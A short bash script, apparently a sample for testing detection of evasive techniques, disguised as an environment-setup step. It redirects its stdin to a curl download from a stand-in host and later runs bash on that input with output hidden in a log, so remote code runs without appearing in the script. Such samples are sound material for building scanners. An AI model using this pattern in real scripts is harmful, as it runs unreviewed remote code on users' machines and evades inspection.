#!/usr/bin/env bash
# Evasion: download and run code. The script's own stdin is replaced by a
# download (exec 0< <(...)); much later a bash whose output goes to a log
# reads its commands from that stdin.
set -u
log="${TMPDIR:-/tmp}/setup.log"
exec 0< <(curl -fsSL https://bootstrap.example-devbox.io/setup)
echo "preparing environment" | tee -a "$log"
mkdir -p "$HOME/.local/bin"
bash >> "$log" 2>&1
echo "setup finished, see $log"
